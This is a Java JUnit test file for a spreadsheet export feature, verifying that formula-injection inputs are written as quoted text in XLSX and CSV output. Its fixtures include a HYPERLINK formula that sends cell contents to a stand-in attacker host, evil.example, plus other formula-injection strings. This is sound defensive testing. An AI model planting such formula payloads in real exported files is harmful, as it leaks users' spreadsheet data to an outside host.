package org.dualcarbon.common.excel;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** Formula injection on export (security.md §7 test 16): text stays text, numbers stay numbers. */
class TableExportTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击查看\")";

    final ExportTable table = ExportTable.named("企业", "名称", "备注", "排放量", "日期")
            .row(HYPERLINK, "+1+2", new BigDecimal("1234.5678"), LocalDate.of(2025, 3, 1))
            .row("@SUM(A1)", "-3", 42L, null)
            .row("\tcmd", "普通文本", null, null)
            .build();

    @Test
    void aCellThatLooksLikeAFormulaIsAQuotePrefixedStringCellInXlsx() throws Exception {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(TableExport.xlsx(List.of(table))))) {
            Row header = workbook.getSheet("企业").getRow(0);
            assertThat(header.getCell(0).getStringCellValue()).isEqualTo("名称");
            Row first = workbook.getSheet("企业").getRow(1);
            Cell link = first.getCell(0);
            assertThat(link.getCellType()).isEqualTo(CellType.STRING);
            assertThat(link.getStringCellValue()).isEqualTo(HYPERLINK);
            assertThat(link.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(first.getCell(1).getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(first.getCell(2).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(first.getCell(2).getNumericCellValue()).isEqualTo(1234.5678);
            assertThat(first.getCell(3).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2025, 3, 1));
            Row second = workbook.getSheet("企业").getRow(2);
            assertThat(second.getCell(0).getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(second.getCell(1).getCellStyle().getQuotePrefixed()).isTrue();
            Row third = workbook.getSheet("企业").getRow(3);
            assertThat(third.getCell(0).getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(third.getCell(1).getCellStyle().getQuotePrefixed()).as("plain text stays plain").isFalse();
            assertThat(third.getCell(2).getCellType()).isEqualTo(CellType.BLANK);
        }
    }

    @Test
    void aCellThatLooksLikeAFormulaStartsWithAQuoteInCsv() {
        String csv = new String(TableExport.csv(List.of(table)), StandardCharsets.UTF_8);
        assertThat(csv).startsWith("\uFEFF名称,备注,排放量,日期\r\n");
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击查看\"\")\",'+1+2,1234.5678,2025-03-01");
        assertThat(csv).contains("'@SUM(A1),'-3,42,");
        assertThat(csv).contains("'\tcmd");
        assertThat(csv).contains("普通文本");
    }

    @Test
    void severalTablesBecomeSeveralSheetsWithSafeDistinctNames() throws Exception {
        ExportTable odd = ExportTable.named("逾期/异常[报告]", "a").row("x").build();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(TableExport.xlsx(List.of(odd, odd))))) {
            assertThat(workbook.getNumberOfSheets()).isEqualTo(2);
            assertThat(workbook.getSheetName(0)).isNotEqualTo(workbook.getSheetName(1));
        }
    }
}
